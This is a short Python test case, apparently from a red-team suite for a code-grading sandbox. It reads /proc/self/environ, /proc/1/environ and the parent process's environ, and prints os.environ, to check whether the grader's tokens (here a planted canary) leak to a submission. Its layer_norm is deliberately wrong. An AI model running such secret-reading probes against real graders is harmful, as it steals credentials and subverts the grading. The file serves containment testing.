"""Class: 8
Problem: layer-norm
Goal: read
Scan: off
Attempt: the child's initial environment (/proc/self/environ, the environment block on its
stack) and os.environ, printed: in a zygote forked from the grader they hold the grader's
environment (an instructor's tokens; here a planted canary).
Contained: the canary never reaches the report.
"""
import os
import torch

for place in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(place, "rb") as fh:
            print(place, fh.read().replace(b"\0", b" ").decode(errors="replace")[:6000])
    except OSError as exc:
        print(place, "refused", exc.errno)
print("os.environ", dict(os.environ))

def layer_norm(x, eps=1e-5):
    return torch.full_like(x, 3.0)  # wrong on every case: only the leak matters
